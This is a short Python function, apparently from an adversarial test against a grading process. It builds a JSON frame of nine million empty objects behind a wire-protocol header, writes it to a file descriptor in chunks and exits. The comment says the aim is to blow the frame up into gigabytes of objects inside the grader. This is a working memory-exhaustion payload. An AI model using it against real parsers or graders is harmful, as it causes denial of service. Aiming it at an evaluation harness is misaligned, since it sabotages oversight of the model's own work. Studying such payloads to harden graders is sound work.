# tries: a small frame that becomes gigabytes of objects in the grader
def attack(keys, j):
    head = b'{"tree":[' + b"{}," * 9_000_000 + b'0],"arrays":[]}'
    view = memoryview(wire.PREFIX.pack(wire.MAGIC, len(head), 0) + head)
    while view:
        view = view[os.write(4, view[: 1 << 16]) :]
    os._exit(0)
